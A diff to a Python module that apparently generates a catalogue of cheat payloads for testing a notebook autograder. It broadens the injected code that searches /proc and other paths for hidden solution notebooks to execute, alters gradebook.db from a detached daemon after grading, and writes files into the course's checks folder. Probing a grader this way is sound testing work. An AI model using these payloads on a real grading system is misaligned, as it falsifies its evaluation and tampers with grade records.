@@ -14,7 +14,6 @@ source/ is attacked the same way.
 
 import copy
 import dataclasses
-import json
 import textwrap
 
 import nbformat
@@ -60,9 +59,18 @@ def _first_solution(nb):
 
 
 def _append(nb, code, index=None):
-    """Append ``code`` to the first solution cell (or to cell ``index``)."""
+    """Put ``code`` in a cell of its own right after the first solution cell (or after cell
+    ``index``): a stub that raises cannot stop it."""
     i = _first_solution(nb) if index is None else index
-    nb.cells[i].source += "\n\n" + textwrap.dedent(code).strip() + "\n"
+    return _insert(nb, i + 1, code)
+
+
+def _after_each_solution(nb, code):
+    """The same cell of code after every solution cell (a later stub cannot undo it before the
+    test cells that follow it are graded)."""
+    indices = [i for i, c in enumerate(nb.cells) if _meta(c).get("solution") and c.cell_type == "code"]
+    for i in reversed(indices):
+        _insert(nb, i + 1, code)
     return nb
 
 
@@ -110,7 +118,7 @@ def _anything(*args, **kwargs):
 
 
 def replace_every_callable(ctx):
-    return _append(ctx.release, _names(ctx) + ANYTHING + '''
+    return _after_each_solution(ctx.release, _names(ctx) + ANYTHING + '''
 import sys as _sys
 for _module_name, _module in list(_sys.modules.items()):
     if _module is None or not (_module_name.startswith("course_pkg") or _module_name == "__main__"):
@@ -265,7 +273,8 @@ import json as _json
 _found = []
 for _pattern in [{ctx.course_root + "/source/*/*.ipynb"!r}, {ctx.repo_root + "/source/*/*.ipynb"!r},
                  "../../source/*/*.ipynb", "../../../source/*/*.ipynb", "/work/*/source/*/*.ipynb",
-                 "/**/source/*/*.ipynb", "/proc/1/root/**/source/*/*.ipynb"]:
+                 "/opt/**/source/*/*.ipynb", "/tmp/**/source/*/*.ipynb", "/root/**/source/*/*.ipynb",
+                 "/proc/1/cwd/../../source/*/*.ipynb", "/proc/*/cwd/source/*/*.ipynb"]:
     try:
         _found += _glob.glob(_pattern, recursive=True)[:50]
     except Exception:
@@ -282,9 +291,10 @@ for _path in _found:
         if _cell["cell_type"] == "code" and "BEGIN SOLUTION" in _text:
             try:
                 exec(_text, globals())
+                print("RAN", _path)
             except Exception:
                 pass
-print("solutions found:", len(_found))
+print("notebooks found:", len(_found))
 ''')
 
 
@@ -300,7 +310,7 @@ if _os.fork() == 0:
         _os.setsid()
         if _os.fork() == 0:
             _time.sleep(4)  # outlive the grading run
-            _targets += _glob.glob("/**/gradebook.db", recursive=True)[:10]
+            _targets += _glob.glob("/tmp/**/gradebook.db", recursive=True)[:10] + _glob.glob("/proc/*/cwd/gradebook.db")
             for _path in _targets:
                 try:
                     import sqlite3
@@ -327,7 +337,7 @@ import glob as _glob
 import os as _os
 import course_pkg as _course_pkg
 _roots = [_os.path.dirname(_course_pkg.__file__), {ctx.repo_root + "/course_pkg"!r}]
-_roots += _glob.glob("/**/course_pkg", recursive=True)[:10]
+_roots += _glob.glob("/opt/**/course_pkg", recursive=True)[:10] + _glob.glob("/proc/*/cwd/course_pkg")
 for _root in _roots:
     try:
         with open(_os.path.join(_root, "checks", "_cheat_was_here.py"), "w") as _fh:
@@ -338,8 +348,10 @@ for _root in _roots:
         try:
             with open(_path, "a") as _fh:
                 _fh.write("")
+            print("WROTE", _path)
         except Exception:
             pass
+print("tried", len(_roots), "folders")
 ''')
 
 
@@ -348,7 +360,7 @@ for _root in _roots:
 
 
 def frame_reader(ctx):
-    return _append(ctx.release, _names(ctx) + '''
+    return _after_each_solution(ctx.release, _names(ctx) + '''
 import gc as _gc
 import sys as _sys
 
@@ -369,7 +381,7 @@ for _name in FUNCS:
 
 
 def gc_reader(ctx):
-    return _append(ctx.release, _names(ctx) + '''
+    return _after_each_solution(ctx.release, _names(ctx) + '''
 import gc as _gc
 import numpy as _np
 
@@ -388,7 +400,7 @@ for _name in FUNCS:
 
 
 def lookup_table(ctx):
-    return _append(ctx.release, _names(ctx) + '''
+    return _after_each_solution(ctx.release, _names(ctx) + '''
 import numpy as _np
 
 _table = {}
@@ -439,7 +451,7 @@ print("table entries:", len(_table))
 
 
 def lazy_results(ctx):
-    return _append(ctx.release, _names(ctx) + '''
+    return _after_each_solution(ctx.release, _names(ctx) + '''
 import numpy as _np
 
 
@@ -494,7 +506,7 @@ def copy_reference(ctx):
         module = getattr(ref, "__module__", "") or ""
         if module.startswith("course_pkg") and getattr(ref, "__name__", "<lambda>") != "<lambda>":
             lines.append((spec.name, module, ref.__name__))
-    return _append(ctx.release, f'''
+    return _after_each_solution(ctx.release, f'''
 import importlib as _importlib
 import inspect as _inspect
 import types as _types
@@ -586,7 +598,7 @@ def infinite_loop_in_cell(ctx):
 
 
 def infinite_loop_in_function(ctx):
-    return _append(ctx.release, _names(ctx) + '''
+    return _after_each_solution(ctx.release, _names(ctx) + '''
 def _forever(*args, **kwargs):
     while True:
         try:
@@ -670,15 +682,12 @@ def _noisy(func):
     noisy.__name__ = func.__name__
     return noisy
 '''
-    for i, cell in enumerate(nb.cells):
-        if _meta(cell).get("solution") and cell.cell_type == "code":
-            _append(nb, code + '''
+    return _after_each_solution(nb, code + '''
 for _name in FUNCS:
     if _name in globals() and not getattr(globals()[_name], "_noisy", False):
         globals()[_name] = _noisy(globals()[_name])
         globals()[_name]._noisy = True
-''', index=i)
-    return nb
+''')
 
 
 CATALOGUE = (
@@ -723,4 +732,4 @@ def build(cheat, ctx):
     return out, {}
 
 
-__all__ = ["CATALOGUE", "Cheat", "Context", "build", "json"]
+__all__ = ["CATALOGUE", "Cheat", "Context", "build"]
